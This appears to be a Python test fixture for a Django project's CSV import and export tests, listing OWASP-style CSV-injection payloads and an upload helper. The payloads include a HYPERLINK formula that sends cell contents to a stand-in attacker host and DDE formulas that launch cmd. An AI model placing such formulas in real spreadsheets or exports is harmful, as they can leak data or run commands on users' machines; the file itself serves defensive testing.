"""Sample input shared by the tests of every import and export."""

from django.core.files.uploadedfile import SimpleUploadedFile

# Payloads that a spreadsheet would otherwise run (OWASP CSV injection).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_upload(content: str | bytes, name: str) -> SimpleUploadedFile:
    data = content.encode("utf-8") if isinstance(content, str) else content
    return SimpleUploadedFile(name, data, content_type="text/csv")
